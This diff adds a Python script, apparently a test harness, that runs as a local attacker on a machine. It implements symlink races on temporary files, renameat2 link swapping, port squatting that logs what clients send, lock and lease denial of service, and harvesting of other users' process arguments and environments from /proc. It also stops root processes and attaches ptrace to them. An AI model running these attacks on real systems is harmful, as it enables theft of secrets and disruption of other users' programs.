@@ -1,0 +1,207 @@
+"""What attackers keep doing on a machine: ``attacks.py ATTACK SAID [WORD...]``, until SIGTERM.
+
+It is copied onto the machine and run as the attacker. ``SAID`` is the file that it writes its loot
+to; the file is there as soon as the attack has begun: what stands before the ``yield`` of each
+attack prepares it. Nothing but Python's own library is used.
+"""
+
+import ctypes
+import fcntl
+import os
+import pty
+import signal
+import socket
+import sys
+import time
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from pathlib import Path
+from typing import IO, NoReturn
+
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
+F_SETLEASE, F_WRLCK = 1024, 1
+PTRACE_ATTACH = 16
+ADDRESSES = ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1"))
+SHARED = ("/tmp", "/var/tmp", "/dev/shm", "/run")
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def swaps(said: IO[str], target: str, *folders: str) -> Iterator[None]:
+    """As soon as a temporary file appears in a folder, a link to ``target`` stands in its place."""
+    yield
+    while True:
+        for folder in folders:
+            for name in _names(folder):
+                new = f"{folder}/{name}"
+                if ".new" not in name or os.path.islink(new):
+                    continue
+                with suppress(OSError):
+                    os.rename(new, f"{folder}/gone-{name}")
+                    os.symlink(target, new)
+                    said.write(f"{new}\n")
+
+
+def flips(said: IO[str], target: str, path: str) -> Iterator[None]:
+    """A file and a link to ``target`` change places, as fast as the kernel can do it."""
+    other = f"{path}.flips"
+    os.symlink(target, other)
+    yield
+    try:
+        while True:
+            _exchange(path, other)
+    finally:
+        if os.path.islink(path):
+            _exchange(path, other)
+        os.unlink(other)
+
+
+def haunts(said: IO[str], target: str, *names: str) -> Iterator[None]:
+    """In every new folder that it may write to, links to ``target`` wait under ``names``, and
+    stand in the place of temporary files."""
+    old = {folder for top in SHARED for folder in _folders(top)}
+    yield
+    while True:
+        for folder in {folder for top in SHARED for folder in _folders(top)} - old:
+            for name in {*names, *(name for name in _names(folder) if ".new" in name)}:
+                path = f"{folder}/{name}"
+                with suppress(OSError):
+                    if not os.path.islink(path):
+                        os.symlink(target, f"{path}.link")
+                        os.rename(f"{path}.link", path)
+                        said.write(f"{path}\n")
+
+
+def binds(said: IO[str], *ports: str) -> Iterator[None]:
+    """Takes each port as soon as it is free, and writes down what it is told there."""
+    yield
+    while True:
+        for family, address in ADDRESSES:
+            for port in ports:
+                with suppress(OSError), socket.socket(family) as taken:
+                    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+                    taken.bind((address, int(port)))
+                    taken.listen()
+                    said.write(f"bound {port}\n")
+                    _listen(taken, said)
+
+
+def _listen(taken: socket.socket, said: IO[str]) -> None:
+    taken.settimeout(1.0)
+    with suppress(OSError):
+        for _ in range(20):
+            client, _ = taken.accept()
+            with client:
+                client.settimeout(1.0)
+                said.write(client.recv(65536).decode(errors="replace"))
+                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")
+
+
+def locks(said: IO[str], *tops: str) -> Iterator[None]:
+    """Holds a lock on every lock file, and every folder, that it can open."""
+    held = []
+    for top in tops:
+        for folder, _, names in os.walk(top):
+            for path in (folder, *(f"{folder}/{name}" for name in names if "lock" in name.lower())):
+                with suppress(OSError):
+                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+                    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
+                    held.append(descriptor)
+                    said.write(f"{path}\n")
+                if len(held) > 900:
+                    break
+    yield
+    _wait()
+
+
+def leases(said: IO[str], *paths: str) -> Iterator[None]:
+    """Who opens a file has to wait until the attacker agrees, and it never does (fcntl(2))."""
+    signal.signal(signal.SIGIO, signal.SIG_IGN)
+    held = [os.open(path, os.O_RDWR) for path in paths]
+    for descriptor in held:
+        fcntl.fcntl(descriptor, F_SETLEASE, F_WRLCK)
+    yield
+    _wait()
+
+
+def terminal(said: IO[str], path: str) -> Iterator[None]:
+    """A link to a terminal at which nobody types."""
+    _, slave = pty.openpty()
+    os.symlink(os.ttyname(slave), path)
+    yield
+    _wait()
+
+
+def spies(said: IO[str]) -> Iterator[None]:
+    """Writes down all arguments and environments of processes that it can read."""
+    seen = set()
+    yield
+    while True:
+        for process in Path("/proc").glob("[0-9]*"):
+            for name in ("cmdline", "environ"):
+                with suppress(OSError):
+                    text = (process / name).read_bytes()
+                    if process.stat().st_uid != os.getuid() and text not in seen:
+                        seen.add(text)
+                        said.write(f"{text.decode(errors='replace')}\n")
+
+
+def harasses(said: IO[str]) -> Iterator[None]:
+    """Signals to root's processes, and attempts to trace them and to read their memory."""
+    yield
+    while True:
+        for process in Path("/proc").glob("[0-9]*"):
+            with suppress(OSError):
+                pid = int(process.name)
+                if process.stat().st_uid != 0:
+                    continue
+                with suppress(PermissionError):
+                    os.kill(pid, signal.SIGSTOP)
+                    said.write(f"stopped {pid}\n")
+                if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
+                    said.write(f"traced {pid}\n")
+                with suppress(PermissionError), (process / "mem").open("r+b"):
+                    said.write(f"memory of {pid}\n")
+        time.sleep(0.05)
+
+
+def _exchange(path: str, other: str) -> None:
+    words = (AT_FDCWD, path.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)
+    if libc.renameat2(*words):
+        raise OSError(ctypes.get_errno(), "renameat2", path)
+
+
+def _names(folder: str) -> list[str]:
+    with suppress(OSError):
+        return os.listdir(folder)
+    return []
+
+
+def _folders(top: str) -> list[str]:
+    """Those just below that we may write to."""
+    paths = [f"{top}/{name}" for name in _names(top)]
+    return [path for path in paths if os.path.isdir(path) and os.access(path, os.W_OK)]
+
+
+def _wait() -> NoReturn:
+    while True:
+        signal.pause()
+
+
+def _stop(*_: object) -> NoReturn:
+    sys.exit()
+
+
+ATTACKS: dict[str, Callable[..., Iterator[None]]] = {
+    each.__name__: each
+    for each in (swaps, flips, haunts, binds, locks, leases, terminal, spies, harasses)
+}
+
+
+if __name__ == "__main__":
+    name, path, *words = sys.argv[1:]
+    signal.signal(signal.SIGTERM, _stop)
+    with open(f"{path}.part", "w", buffering=1) as loot:
+        attack = ATTACKS[name](loot, *words)
+        next(attack)
+        os.rename(f"{path}.part", path)
+        next(attack)
